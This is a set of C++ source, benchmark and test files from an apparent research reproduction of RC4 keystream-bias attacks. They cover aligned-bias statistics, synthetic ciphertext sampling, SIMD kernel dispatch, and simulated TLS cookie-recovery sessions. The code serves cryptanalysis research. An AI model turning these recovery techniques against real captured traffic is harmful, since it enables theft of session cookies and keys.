// length x charset x gap combinations, single-byte recovery beyond position
// 256); trials run on the src/sim/ runner, so every printed row is bit-exact
// for any --workers value.
#include <algorithm>
#include <chrono>
#include <cstdio>
#include <string>
#include <vector>

#include "bench/harness.h"
#include "src/common/flags.h"
#include "src/recovery/scenario.h"

namespace rc4b {
namespace {

double Median(std::vector<double> values) {
  if (values.empty()) {
    return 0.0;
  }
  std::sort(values.begin(), values.end());
  return values[values.size() / 2];
}

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "trials",
                            .count_default = "8",
                            .count_help = "simulated attacks per scenario",
                            .seed_default = "33"};
  FlagSet flags("Recovery scenarios: run any registry scenario end-to-end");
  DefineScaleFlags(flags, scale)
      .Define("scenario", "all",
              "registry scenario name, 'all', or 'list' to print the registry")
      .Define("samples", "0",
              "captured frames/requests per trial (0 = scenario default)")
      .Define("budget", "0", "candidate budget (0 = scenario default)")
      .Define("model-keys", "0",
              "attacker-model scale (0 = scenario default)")
      .Define("grid-cache", "",
              "warm-start engine-backed scenarios from stored grids in this "
              "directory (docs/store.md)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const auto& registry = recovery::ScenarioRegistry::Builtin();
  const std::string name = flags.GetString("scenario");
  if (name == "list") {
    for (const recovery::Scenario* scenario : registry.List()) {
      std::printf("%-24s %s\n", scenario->name().c_str(),
                  scenario->description().c_str());
    }
    return 0;
  }

  std::vector<const recovery::Scenario*> selected;
  if (name == "all") {
    selected = registry.List();
  } else if (const recovery::Scenario* scenario = registry.Find(name)) {
    selected.push_back(scenario);
  } else {
    std::fprintf(stderr, "unknown scenario '%s' (use --scenario=list)\n",
                 name.c_str());
    return 2;
  }

  const ScaleFlagValues scale_values = GetScaleFlags(flags, scale);
  recovery::ScenarioParams params;
  params.trials = scale_values.count;
  params.workers = scale_values.workers;
  params.seed = scale_values.seed;
  params.interleave = scale_values.interleave;
  params.kernel = scale_values.kernel;
  params.samples = flags.GetUint("samples");
  params.budget = flags.GetUint("budget");
  params.model_keys = flags.GetUint("model-keys");
  params.grid_cache = flags.GetString("grid-cache");

  bench::PrintHeader(
      "bench_scenarios",
      "unified recovery pipeline (Sect. 5 + Sect. 6 + Sect. 3.3.3 workloads)",
      "one row per registry scenario; rows are bit-exact for any --workers");

  bench::JsonTrajectory json("scenarios");
  json.Add("trials", params.trials);
  json.Add("workers", static_cast<uint64_t>(params.workers));

  std::printf("%-24s %8s %12s %12s %14s %8s\n", "scenario", "trials",
              "budget wins", "exact wins", "median rank", "secs");
  for (const recovery::Scenario* scenario : selected) {
    const auto begin = std::chrono::steady_clock::now();
    const auto outcome = scenario->Run(params);
    const double seconds =
        std::chrono::duration<double>(std::chrono::steady_clock::now() - begin)
            .count();
    std::printf("%-24s %8llu %11.1f%% %11.1f%% %14.0f %8.2f\n",
                scenario->name().c_str(),
                static_cast<unsigned long long>(outcome.trials),
                100.0 * static_cast<double>(outcome.budget_wins) /
                    static_cast<double>(outcome.trials),
                100.0 * static_cast<double>(outcome.exact_wins) /
                    static_cast<double>(outcome.trials),
                Median(outcome.ranks), seconds);
    json.Add(scenario->name() + "/trials_per_s",
             static_cast<double>(outcome.trials) / seconds);
    json.Add(scenario->name() + "/exact_wins", outcome.exact_wins);
    json.Add(scenario->name() + "/budget_wins", outcome.budget_wins);
  }
  json.Write();
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
