// Eq. (8) / Sect. 3.4 — long-term biases at 256-aligned positions:
// Sen Gupta's (Z_{256w}, Z_{256w+2}) = (0,0) and the paper's new (128,0),
// both 2^-16 (1 + 2^-8). Regenerates aligned-pair statistics and reports the
// measured relative bias of the two special cells against the cell average.
#include <cstdio>

#include "bench/harness.h"
#include "src/biases/dataset.h"
#include "src/common/flags.h"

namespace rc4b {
namespace {

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{.count_flag = "keys",
                            .count_default = "256",
                            .count_help = "RC4 keys (one long keystream each)",
                            .seed_default = "8",
                            .seed_help = "dataset seed"};
  FlagSet flags("Eq. (8): (Z_256w, Z_256w+2) biased toward (0,0) and (128,0)");
  DefineScaleFlags(flags, scale)
      .Define("bytes-per-key", "0x2000000", "keystream bytes per key (2^25)");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }

  const auto [keys, workers, seed, interleave, kernel] = GetScaleFlags(flags, scale);
  LongTermOptions options;
  options.keys = keys;
  options.bytes_per_key = flags.GetUint("bytes-per-key");
  options.workers = workers;
  options.seed = seed;
  options.interleave = interleave;
  options.kernel = kernel;

  const double samples = static_cast<double>(options.keys) *
                         static_cast<double>(options.bytes_per_key / 256);
  bench::PrintHeader(
      "bench_eq8_longterm_aligned",
      "Eq. (8) and Sen Gupta's aligned (0,0) bias (Sect. 3.4)",
      "note: the 2^-8 relative bias needs ~2^36 aligned samples (2^44 bytes, "
      "paper scale) for 4-sigma per cell; defaults give a consistency check "
      "with the predicted value inside the confidence interval");

  const auto counts = GenerateAlignedPairDataset(0, 2, options);
  const double expected = samples / 65536.0;
  const double sigma = std::sqrt(expected);

  std::printf("aligned samples: %.3g (cell expectation %.1f)\n\n", samples, expected);
  std::printf("%-12s %12s %14s %14s %8s\n", "cell", "count", "measured q",
              "paper q", "z(uni)");
  const struct {
    int v1, v2;
    double paper_q;
    const char* label;
  } kCells[] = {
      {0, 0, 0x1.0p-8, "(0,0)"},
      {128, 0, 0x1.0p-8, "(128,0)"},
      {1, 1, 0.0, "(1,1) ctrl"},
      {64, 32, 0.0, "(64,32) ctrl"},
  };
  for (const auto& cell : kCells) {
    const uint64_t count = counts[static_cast<size_t>(cell.v1) * 256 + cell.v2];
    const double q = static_cast<double>(count) / expected - 1.0;
    const double z = (static_cast<double>(count) - expected) / sigma;
    std::printf("%-12s %12llu %+14.6f %+14.6f %+8.2f\n", cell.label,
                static_cast<unsigned long long>(count), q, cell.paper_q, z);
  }

  // Pool the two predicted-positive cells for extra power.
  const uint64_t pooled =
      counts[0] + counts[static_cast<size_t>(128) * 256 + 0];
  const double pooled_z = (static_cast<double>(pooled) - 2 * expected) /
                          std::sqrt(2 * expected);
  std::printf("\npooled (0,0)+(128,0) z: %+.2f (prediction: +2^-8 relative on "
              "both cells => z ~ +%.2f at this scale)\n",
              pooled_z, 0x1.0p-8 * std::sqrt(2 * expected));
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
