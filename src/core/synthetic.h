// Synthetic ciphertext-statistics sampling.
//
// The recovery algorithms consume only count vectors (how often each
// ciphertext byte pair / differential value was observed), never individual
// ciphertexts. To evaluate success rates at the paper's scales (up to 2^39
// ciphertexts in Fig. 7) we sample those counts directly from their exact
// sampling distribution — a Poissonized multinomial, with per-cell Poisson
// draws switching to a normal approximation for large means. Tests validate
// the sampler against exhaustive real-RC4 simulation at small |C|
// (see DESIGN.md "Substitutions").
#ifndef SRC_CORE_SYNTHETIC_H_
#define SRC_CORE_SYNTHETIC_H_

#include <cstdint>
#include <span>
#include <vector>

#include "src/common/rng.h"
#include "src/stats/counters.h"

namespace rc4b {

// One Poisson(mean) draw; exact inversion below kPoissonNormalCutoff,
// rounded normal approximation above.
inline constexpr double kPoissonNormalCutoff = 64.0;
uint64_t SamplePoisson(double mean, Xoshiro256& rng);

// Poissonized multinomial: counts[i] ~ Poisson(trials * probabilities[i]),
// independently per cell.
std::vector<uint64_t> SampleCounts(std::span<const double> probabilities,
                                   uint64_t trials, Xoshiro256& rng);

// Ciphertext pair counts for a digraph position: the keystream pair
// distribution `keystream_probs` (65536 cells) XOR-shifted by the true
// plaintext pair (p1, p2): count index (c1, c2) holds draws for keystream
// value (c1 ^ p1, c2 ^ p2).
std::vector<uint64_t> SampleCiphertextPairCounts(
    std::span<const double> keystream_probs, uint8_t p1, uint8_t p2,
    uint64_t trials, Xoshiro256& rng);

// Normalized empirical pair distribution from one row of an engine-generated
// digraph grid (65536 cells summing to one). Lets simulations source their
// keystream model from measured engine statistics instead of the analytic
// Fluhrer–McGrew tables.
std::vector<double> EmpiricalPairProbabilities(const DigraphGrid& grid, size_t row);

// SampleCiphertextPairCounts driven by an engine-generated digraph grid row:
// the shared hot path between real-dataset statistics and the TKIP/TLS
// attack simulations.
std::vector<uint64_t> SampleCiphertextPairCountsFromGrid(
    const DigraphGrid& grid, size_t row, uint8_t p1, uint8_t p2,
    uint64_t trials, Xoshiro256& rng);

// Aggregated ABSAB score table (Sect. 4.2/4.3): for a set of ABSAB estimates
// with per-gap match probabilities `alphas`, returns the table
//   T[d] = sum_g logodds(g) * N_g[d]
// over the 65536 differential values d, where N_g are the per-gap match
// counts of `trials` ciphertext differentials whose true differential is
// `true_diff`. Cells are sampled from the exact per-gap Poisson law (summed
// moments, normal approximation when every per-gap mean is large). T is, up
// to an additive constant shared by all candidates, the combined ABSAB
// log-likelihood of formula (25).
std::vector<double> SampleAbsabScoreTable(std::span<const double> alphas,
                                          uint64_t trials, uint16_t true_diff,
                                          Xoshiro256& rng);

}  // namespace rc4b

#endif  // SRC_CORE_SYNTHETIC_H_
