// Registry of RC4 lane kernels + runtime CPU-feature dispatch.
//
// Every kernel the engine can generate keystreams with is described here:
// name, the CPU features it needs, the lane widths it supports, and a
// factory. The scalar round-robin kernel (Rc4MultiStream, the bit-exactness
// oracle) is always registered and always available; the ISA kernels
// (ssse3/avx2/avx512 on x86, neon on aarch64) are listed whenever their TU
// compiled in and report Available() only when the running CPU has the
// features —
// dispatch therefore degrades to scalar on any machine, including
// -mno-avx2 -mno-ssse3 fallback builds (CI asserts this).
//
// Selection (ResolveKernelChoice) feeds RunKeystreamEngine /
// RunLongTermEngine and is controllable at three levels, strongest first:
//   1. an explicit kernel name (EngineOptions::kernel / --kernel),
//   2. the RC4B_KERNEL environment variable (how CI forces each kernel
//      through the full test suites),
//   3. the host's cached autotune choice ($RC4B_AUTOTUNE_CACHE, written by
//      tools/autotune — see src/rc4/autotune.h), else the highest-priority
//      kernel the CPU supports.
// An explicit nonzero interleave width is always authoritative: a kernel
// that cannot run that narrow falls back to scalar at the requested width,
// and width 1 is always the scalar oracle no matter what was forced.
#ifndef SRC_RC4_KERNEL_REGISTRY_H_
#define SRC_RC4_KERNEL_REGISTRY_H_

#include <cstdint>
#include <memory>
#include <span>
#include <string>
#include <string_view>

#include "src/rc4/kernel.h"

namespace rc4b {

struct KernelDesc {
  std::string_view name;  // "scalar" | "ssse3" | "avx2" | "avx512" | "neon"
  std::string_view features;  // CPU features required ("" = none)
  std::span<const size_t> widths;  // supported lane counts, ascending
  size_t preferred_width;          // width auto-dispatch picks (interleave 0)
  int priority;                    // auto-dispatch preference, higher wins
  bool (*compiled)();              // TU built with the required ISA?
  bool (*cpu_supports)();          // running CPU has the required features?
  std::unique_ptr<Rc4LaneKernel> (*make)(size_t width);  // nullptr: bad width

  bool Available() const { return compiled() && cpu_supports(); }
  bool SupportsWidth(size_t width) const;
};

// All registered kernels, scalar first; stable order (autotune candidate
// enumeration and --list output depend on it). Unavailable kernels are
// listed too, with Available() == false.
std::span<const KernelDesc> KernelRegistry();

// Lookup by name, available or not; nullptr when unknown.
const KernelDesc* FindKernel(std::string_view name);

// The always-available scalar oracle ("scalar").
const KernelDesc& ScalarKernelDesc();

// CPU features of the running machine that are relevant to kernel dispatch,
// comma-separated (e.g. "ssse3,avx2"); "baseline" when none. Recorded in
// every BENCH_*.json so trajectory points carry their hardware context.
std::string CpuFeatureString();

// A dispatch decision: which kernel at which lane width, plus the raw
// requested interleave so benches can record both sides of the rounding.
struct KernelChoice {
  const KernelDesc* kernel = nullptr;  // never null after resolution
  size_t width = 1;                    // resolved lane count (>= 1)
  size_t requested = 0;                // EngineOptions::interleave, verbatim

  std::string_view name() const { return kernel->name; }
};

// Resolves (kernel name, requested interleave) to a runnable configuration.
// `kernel_name` empty means auto (env -> autotune cache -> priority); see
// the file comment for the full precedence. Never fails: unknown or
// unavailable kernels warn once on stderr and fall back to scalar, and the
// first request whose width had to be rounded logs the resolution once.
KernelChoice ResolveKernelChoice(std::string_view kernel_name,
                                 size_t requested_interleave);

}  // namespace rc4b

#endif  // SRC_RC4_KERNEL_REGISTRY_H_
