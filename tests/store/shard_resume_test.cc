// The resume contract of docs/store.md: a shard killed between checkpoints
// and rerun produces a final grid byte-identical to an uninterrupted run,
// for every generator family; corrupt state is a loud error.
#include <cstdio>
#include <fstream>
#include <string>

#include <gtest/gtest.h>

#include "src/store/merge.h"
#include "src/store/shard_runner.h"

namespace rc4b::store {
namespace {

std::string TempDir(const char* name) {
  const std::string dir = std::string(::testing::TempDir()) + "/" + name;
  MakeDirs(dir);
  return dir;
}

GridMeta SmallMeta(GridKind kind) {
  GridMeta meta;
  meta.kind = kind;
  meta.seed = 31;
  meta.key_begin = 0;
  meta.key_end = 4096;
  switch (kind) {
    case GridKind::kSingleByte:
    case GridKind::kConsecutive:
      meta.rows = 5;
      break;
    case GridKind::kPair:
      meta.pairs = {{2, 4}};
      meta.rows = 1;
      break;
    case GridKind::kLongTermDigraph:
      meta.rows = 256;
      meta.key_end = 8;
      meta.drop = 256;
      meta.bytes_per_key = 2048;
      break;
  }
  return meta;
}

TEST(ShardResumeTest, KilledShardResumesBitExactlyForEveryKind) {
  for (const GridKind kind :
       {GridKind::kSingleByte, GridKind::kConsecutive, GridKind::kPair,
        GridKind::kLongTermDigraph}) {
    SCOPED_TRACE(GridKindName(kind));
    const std::string dir = TempDir("resume");
    const GridMeta grid = SmallMeta(kind);
    const Manifest manifest = PlanShards(grid, 1, dir + "/solo");
    const std::string manifest_path = dir + "/x.manifest";
    const std::string shard_path = manifest.shards[0].path;
    // The temp dir persists across suite runs; start from a clean slate.
    std::remove(shard_path.c_str());
    std::remove(CheckpointPath(shard_path).c_str());

    ShardRunOptions options;
    options.workers = 2;
    options.checkpoint_keys = grid.keys() / 4;
    options.stop_after_keys = grid.keys() / 4;  // "crash" after one step

    ShardRunResult result;
    ASSERT_TRUE(RunShard(manifest, manifest_path, 0, options, &result).ok());
    EXPECT_FALSE(result.finished);
    StoredGrid ignored;
    EXPECT_TRUE(ReadGridFile(CheckpointPath(shard_path), &ignored).ok());

    options.stop_after_keys = 0;  // run the rest to completion
    ASSERT_TRUE(RunShard(manifest, manifest_path, 0, options, &result).ok());
    EXPECT_TRUE(result.finished);
    EXPECT_TRUE(result.resumed);
    EXPECT_EQ(result.keys_completed, grid.keys());
    // The checkpoint is cleaned up once the final grid lands.
    EXPECT_FALSE(ReadGridFile(CheckpointPath(shard_path), &ignored).ok());

    StoredGrid resumed;
    ASSERT_TRUE(ReadGridFile(shard_path, &resumed).ok());
    const StoredGrid straight = GenerateStoredGrid(grid, 2, 0);
    EXPECT_TRUE(
        CheckGridsEqual(straight, resumed, "uninterrupted", "resumed").ok());
    std::remove(shard_path.c_str());
  }
}

TEST(ShardResumeTest, FinishedShardIsIdempotent) {
  const std::string dir = TempDir("idempotent");
  const Manifest manifest =
      PlanShards(SmallMeta(GridKind::kSingleByte), 1, dir + "/solo");
  // The temp dir persists across suite runs; start from a clean slate.
  std::remove(manifest.shards[0].path.c_str());
  std::remove(CheckpointPath(manifest.shards[0].path).c_str());
  ShardRunResult result;
  ASSERT_TRUE(
      RunShard(manifest, dir + "/x.manifest", 0, ShardRunOptions{}, &result).ok());
  EXPECT_TRUE(result.finished);
  const uint64_t keys_first = result.keys_done;
  EXPECT_GT(keys_first, 0u);

  // Rerunning the same shard touches nothing and generates nothing.
  ASSERT_TRUE(
      RunShard(manifest, dir + "/x.manifest", 0, ShardRunOptions{}, &result).ok());
  EXPECT_TRUE(result.finished);
  EXPECT_EQ(result.keys_done, 0u);
}

TEST(ShardResumeTest, CorruptCheckpointIsALoudError) {
  const std::string dir = TempDir("bad-ckpt");
  const GridMeta grid = SmallMeta(GridKind::kSingleByte);
  const Manifest manifest = PlanShards(grid, 1, dir + "/solo");
  const std::string ckpt = CheckpointPath(manifest.shards[0].path);
  {
    std::ofstream out(ckpt, std::ios::binary);
    out << "garbage checkpoint";
  }
  ShardRunResult result;
  const IoStatus status =
      RunShard(manifest, dir + "/x.manifest", 0, ShardRunOptions{}, &result);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("checkpoint is corrupt"), std::string::npos);
  EXPECT_NE(status.message().find("remove it"), std::string::npos);
  std::remove(ckpt.c_str());
}

TEST(ShardResumeTest, ForeignFinalFileIsALoudError) {
  const std::string dir = TempDir("bad-final");
  const GridMeta grid = SmallMeta(GridKind::kSingleByte);
  const Manifest manifest = PlanShards(grid, 1, dir + "/solo");

  // A valid grid file, but from a different dataset (other seed).
  GridMeta foreign = grid;
  foreign.seed = 777;
  const StoredGrid other = GenerateStoredGrid(foreign, 1, 0);
  ASSERT_TRUE(
      WriteGridFile(manifest.shards[0].path, other.meta, other.cells).ok());

  ShardRunResult result;
  const IoStatus status =
      RunShard(manifest, dir + "/x.manifest", 0, ShardRunOptions{}, &result);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("seed"), std::string::npos);
  std::remove(manifest.shards[0].path.c_str());
}

TEST(ShardResumeTest, ShardIndexOutOfRangeIsAnError) {
  const std::string dir = TempDir("bad-index");
  const Manifest manifest =
      PlanShards(SmallMeta(GridKind::kSingleByte), 2, dir + "/solo");
  ShardRunResult result;
  const IoStatus status =
      RunShard(manifest, dir + "/x.manifest", 5, ShardRunOptions{}, &result);
  EXPECT_FALSE(status.ok());
  EXPECT_NE(status.message().find("out of range"), std::string::npos);
}

}  // namespace
}  // namespace rc4b::store
