// Fuzz target: the grid-file readers (src/store/grid_file.cc) against
// arbitrary bytes posing as a grid file. Both the zero-copy GridFileView and
// the copying ReadGridFile must either reject the input with a diagnostic or
// expose a fully-validated grid — never crash, overread the mapping, or
// throw. The u64-overflow rejects pinned by
// tests/store/grid_file_corrupt_test.cc were found by exactly this surface.
#include <cstdint>
#include <cstdlib>

#include "src/store/grid_file.h"
#include "tests/fuzz/fuzz_util.h"

extern "C" int LLVMFuzzerTestOneInput(const uint8_t* data, size_t size) {
  const std::string path = rc4b::fuzz::ScratchPath("input.grid");
  if (!rc4b::fuzz::WriteInput(path, data, size)) {
    return 0;
  }

  rc4b::store::GridFileView view;
  if (view.Open(path).ok()) {
    // Touch every accepted byte: meta and the whole mapped cell block. An
    // overread past the mapping faults here, not in some later consumer.
    uint64_t sum = view.meta().cell_count();
    for (const uint64_t cell : view.cells()) {
      sum += cell;
    }
    if (view.cells().size() != view.meta().cell_count()) {
      std::abort();  // accepted view must be internally consistent
    }
    (void)sum;
  }

  rc4b::store::StoredGrid grid;
  if (rc4b::store::ReadGridFile(path, &grid).ok()) {
    if (grid.cells.size() != grid.meta.cell_count()) {
      std::abort();
    }
  }
  return 0;
}
