// Sharded keystream-engine throughput: keystreams/sec for the single-byte
// and consecutive-digraph accumulators, comparing
//   * the scalar Rc4 path (--interleave=1) against the dispatched lane
//     kernel (src/rc4/kernel_registry.h: scalar round-robin, ssse3, avx2 or
//     neon; --kernel forces one) on one thread — the single-core headline,
//     and
//   * one shard against all cores — the sharding headline.
// Every run re-checks the engine's two bit-exactness guarantees: the multi
// grid equals the scalar grid, and the sharded merge equals the
// single-shard reference for the same seed.
//
// This is the repo's perf-trajectory bench for the dataset hot path every
// attack scenario (Fig. 4-10, Tables 1-2) sits on; the nightly CI job
// uploads its stdout and BENCH_engine_sharded.json as artifacts. This dev
// box may have 1 core: read thread-scaling numbers off CI hardware (the
// kernel speedup is single-thread and measurable anywhere).
#include <chrono>
#include <cstdio>
#include <string>

#include "bench/harness.h"
#include "src/common/flags.h"
#include "src/common/thread_pool.h"
#include "src/engine/accumulators.h"
#include "src/engine/keystream_engine.h"
#include "src/rc4/kernel_registry.h"

namespace rc4b {
namespace {

double SecondsSince(std::chrono::steady_clock::time_point start) {
  return std::chrono::duration<double>(std::chrono::steady_clock::now() - start)
      .count();
}

template <typename Accumulator>
double TimedRun(const EngineOptions& options, Accumulator& accumulator) {
  const auto start = std::chrono::steady_clock::now();
  RunKeystreamEngine(options, accumulator);
  return SecondsSince(start);
}

// Returns whether all grids were bit-exact.
template <typename MakeAccumulator>
bool RunMode(const char* mode, const EngineOptions& base, unsigned threads,
             size_t interleave, bench::JsonTrajectory& json,
             MakeAccumulator make_accumulator) {
  EngineOptions options = base;
  const double n = static_cast<double>(options.keys);

  options.workers = 1;
  options.interleave = 1;
  auto scalar = make_accumulator();
  const double scalar_s = TimedRun(options, scalar);

  options.interleave = interleave;
  auto multi = make_accumulator();
  const double multi_s = TimedRun(options, multi);

  options.workers = threads;
  auto sharded = make_accumulator();
  const double sharded_s = TimedRun(options, sharded);

  const bool exact =
      scalar.grid() == multi.grid() && scalar.grid() == sharded.grid();
  std::printf("%-12s %10.0f ks/s scalar  %10.0f ks/s interleaved (%.2fx)  "
              "%10.0f ks/s x%u threads (%.2fx)  bit-exact: %s\n",
              mode, n / scalar_s, n / multi_s, scalar_s / multi_s,
              n / sharded_s, threads, multi_s / sharded_s,
              exact ? "OK" : "FAILED");

  const std::string prefix = mode;
  json.Add(prefix + "_scalar_ks_per_s", n / scalar_s);
  json.Add(prefix + "_interleaved_ks_per_s", n / multi_s);
  json.Add(prefix + "_kernel_speedup", scalar_s / multi_s);
  json.Add(prefix + "_sharded_ks_per_s", n / sharded_s);
  json.Add(prefix + "_thread_speedup", multi_s / sharded_s);
  json.Add(prefix + "_bit_exact", std::string(exact ? "true" : "false"));
  return exact;
}

int Run(int argc, char** argv) {
  const ScaleFlagSpec scale{
      .count_flag = "keys",
      .count_default = "0x80000",
      .count_help = "RC4 keys per run (2^19)",
      .workers_flag = "threads",
      .workers_help = "shard count for the parallel run (0 = all cores)",
      .seed_default = "42",
      .seed_help = "engine seed"};
  FlagSet flags("Sharded keystream-statistics engine throughput");
  DefineScaleFlags(flags, scale)
      .Define("positions", "256", "keystream positions per key");
  if (!flags.Parse(argc, argv)) {
    return 0;
  }
  const auto [keys, parsed_threads, seed, requested_interleave, kernel_flag] =
      GetScaleFlags(flags, scale);
  const size_t positions = static_cast<size_t>(flags.GetUint("positions"));
  const unsigned threads =
      parsed_threads != 0 ? parsed_threads : DefaultWorkerCount();
  // The same dispatch decision the engine will make, surfaced up front so
  // stdout and the JSON record the kernel the numbers belong to.
  const KernelChoice choice = ResolveKernelChoice(kernel_flag, requested_interleave);

  bench::PrintHeader(
      "bench_engine_sharded",
      "Sect. 3.2 dataset generation (engine substrate for Fig. 4-10, Tab. 1-2)",
      "keystreams/sec: scalar vs dispatched lane kernel (1 thread), then all "
      "cores; every run re-checks both bit-exactness guarantees");
  std::printf(
      "keys=%llu positions=%zu threads=%u (hardware: %u) kernel=%.*s "
      "interleave=%zu (requested %zu) cpu=%s\n\n",
      static_cast<unsigned long long>(keys), positions, threads,
      DefaultWorkerCount(), static_cast<int>(choice.name().size()),
      choice.name().data(), choice.width, requested_interleave,
      CpuFeatureString().c_str());

  EngineOptions base;
  base.keys = keys;
  base.seed = seed;
  base.kernel = kernel_flag;

  bench::JsonTrajectory json("engine_sharded");
  json.Add("keys", static_cast<uint64_t>(keys));
  json.Add("positions", static_cast<uint64_t>(positions));
  json.Add("threads", static_cast<uint64_t>(threads));
  json.RecordScale(requested_interleave, choice.width, base.batch_keys);
  json.RecordKernel(std::string(choice.name()), CpuFeatureString());

  bool exact = RunMode("single-byte", base, threads, choice.width, json,
                       [&] { return SingleByteAccumulator(positions); });
  exact &= RunMode("digraph", base, threads, choice.width, json,
                   [&] { return ConsecutiveAccumulator(positions); });
  json.Write();
  if (!exact) {
    std::printf("\nBIT-EXACTNESS VIOLATION: see rows above\n");
    return 1;
  }
  return 0;
}

}  // namespace
}  // namespace rc4b

int main(int argc, char** argv) { return rc4b::Run(argc, argv); }
