#include "src/tls/session.h"

#include <gtest/gtest.h>

namespace rc4b {
namespace {

HttpRequestTemplate TestTemplate() {
  HttpRequestTemplate tmpl;
  tmpl.total_size = 492;  // 492 + 20-byte MAC = 512-byte stride
  return tmpl;
}

TEST(SessionTest, StrideIsMultipleOf256) {
  Xoshiro256 rng(1);
  TlsVictimSession session(TestTemplate(), FromString("ABCDEFGHIJKLMNOP"), 48, rng);
  EXPECT_EQ(session.StreamStride() % 256, 0u);
  EXPECT_EQ(session.StreamStride(), 512u);
}

TEST(SessionTest, CookiePositionFixedMod256) {
  Xoshiro256 rng(2);
  TlsVictimSession session(TestTemplate(), FromString("ABCDEFGHIJKLMNOP"), 48, rng);
  for (uint64_t k = 0; k < 100; k += 7) {
    EXPECT_EQ(session.CookieStreamPosition(k) % 256, 48u) << "request " << k;
  }
}

TEST(SessionTest, ServerAcceptsRequests) {
  Xoshiro256 rng(3);
  const Bytes cookie = FromString("SECRETSECRET1234");
  TlsVictimSession session(TestTemplate(), cookie, 100, rng);
  TlsReadState server = session.MakeServerReader();
  for (int i = 0; i < 5; ++i) {
    const Bytes record = session.NextRequest();
    const auto payload = server.Open(record);
    ASSERT_TRUE(payload.has_value()) << "request " << i;
    // The cookie is embedded at the session's fixed in-request offset.
    const Bytes embedded(payload->begin() + session.CookieOffsetInRequest(),
                         payload->begin() + session.CookieOffsetInRequest() + 16);
    EXPECT_EQ(embedded, cookie);
  }
}

TEST(SessionTest, EncryptedRequestsHaveFixedSize) {
  Xoshiro256 rng(4);
  TlsVictimSession session(TestTemplate(), FromString("ABCDEFGHIJKLMNOP"), 0, rng);
  for (int i = 0; i < 3; ++i) {
    EXPECT_EQ(session.NextRequest().size(), kTlsRecordHeaderSize + 512);
  }
}

TEST(SessionTest, KnownPlaintextStableAcrossRequests) {
  Xoshiro256 rng(5);
  TlsVictimSession session(TestTemplate(), FromString("ABCDEFGHIJKLMNOP"), 32, rng);
  const Bytes& plaintext = session.RequestPlaintext();
  EXPECT_EQ(plaintext.size(), 492u);
  session.NextRequest();
  session.NextRequest();
  EXPECT_EQ(session.RequestPlaintext(), plaintext);
}

TEST(SessionTest, DifferentSessionsHaveDifferentKeys) {
  Xoshiro256 rng(6);
  TlsVictimSession a(TestTemplate(), FromString("ABCDEFGHIJKLMNOP"), 0, rng);
  TlsVictimSession b(TestTemplate(), FromString("ABCDEFGHIJKLMNOP"), 0, rng);
  EXPECT_NE(a.NextRequest(), b.NextRequest());
}

}  // namespace
}  // namespace rc4b
