#include "src/rc4/kernel_registry.h"

#include <atomic>
#include <cstdio>
#include <cstdlib>
#include <optional>
#include <vector>

#include "src/rc4/autotune.h"
#include "src/rc4/rc4_multi.h"

namespace rc4b {

// ISA kernel factories (kernel_ssse3.cc / kernel_avx2.cc / kernel_avx512.cc
// / kernel_neon.cc); each TU degrades to a stub reporting Compiled() == false
// when built without its ISA, so referencing them is safe in every
// configuration.
bool Ssse3KernelCompiled();
std::unique_ptr<Rc4LaneKernel> MakeSsse3Kernel(size_t width);
bool Avx2KernelCompiled();
std::unique_ptr<Rc4LaneKernel> MakeAvx2Kernel(size_t width);
bool Avx512KernelCompiled();
std::unique_ptr<Rc4LaneKernel> MakeAvx512Kernel(size_t width);
bool NeonKernelCompiled();
std::unique_ptr<Rc4LaneKernel> MakeNeonKernel(size_t width);

namespace {

// ------------------------------------------------------------------ CPU --

bool CpuHasSsse3() {
#if defined(__x86_64__) || defined(__i386__)
  return __builtin_cpu_supports("ssse3");
#else
  return false;
#endif
}

bool CpuHasAvx2() {
#if defined(__x86_64__) || defined(__i386__)
  return __builtin_cpu_supports("avx2");
#else
  return false;
#endif
}

// Everything the kernel actually executes: F (gathers, 512-bit moves), BW
// (byte adds at 512 bits), VBMI (byte shuffles the compiler may emit for the
// lane loops under -mavx512vbmi).
bool CpuHasAvx512() {
#if defined(__x86_64__) || defined(__i386__)
  return __builtin_cpu_supports("avx512f") &&
         __builtin_cpu_supports("avx512bw") &&
         __builtin_cpu_supports("avx512vbmi");
#else
  return false;
#endif
}

// Advanced SIMD is architecturally baseline on aarch64: compiled == usable.
bool CpuHasNeon() {
#if defined(__aarch64__) || defined(__ARM_NEON)
  return true;
#else
  return false;
#endif
}

bool AlwaysTrue() { return true; }

// --------------------------------------------------------------- scalar --

// The oracle: Rc4MultiStream behind the kernel interface. Init() re-runs
// the KSA by re-emplacing the stream object, which is exactly what the
// pre-registry engine did once per lockstep group.
template <size_t M>
class ScalarLaneKernel final : public Rc4LaneKernel {
 public:
  size_t Width() const override { return M; }

  void Init(std::span<const uint8_t> keys, size_t key_size) override {
    streams_.emplace(keys, key_size);
  }

  void Skip(uint64_t n) override { streams_->Skip(n); }

  void Keystream(uint8_t* out, size_t length, size_t stride) override {
    streams_->Keystream(out, length, stride);
  }

 private:
  std::optional<Rc4MultiStream<M>> streams_;
};

std::unique_ptr<Rc4LaneKernel> MakeScalarKernel(size_t width) {
  switch (width) {
    case 1:
      return std::make_unique<ScalarLaneKernel<1>>();
    case 2:
      return std::make_unique<ScalarLaneKernel<2>>();
    case 4:
      return std::make_unique<ScalarLaneKernel<4>>();
    case 8:
      return std::make_unique<ScalarLaneKernel<8>>();
    case 16:
      return std::make_unique<ScalarLaneKernel<16>>();
    case 32:
      return std::make_unique<ScalarLaneKernel<32>>();
    case 64:
      return std::make_unique<ScalarLaneKernel<64>>();
    default:
      return nullptr;
  }
}

// ------------------------------------------------------------- registry --

constexpr size_t kScalarWidths[] = {1, 2, 4, 8, 16, 32, 64};
constexpr size_t kLane16Widths[] = {16};
constexpr size_t kLane32Widths[] = {32};
constexpr size_t kLane64Widths[] = {64};

const std::vector<KernelDesc>& Registry() {
  // Scalar first (enumeration baseline), then ISA kernels by ascending
  // vector width; priority orders auto-dispatch preference independently.
  static const std::vector<KernelDesc> kernels = {
      {"scalar", "", kScalarWidths, kDefaultInterleave, /*priority=*/0, AlwaysTrue,
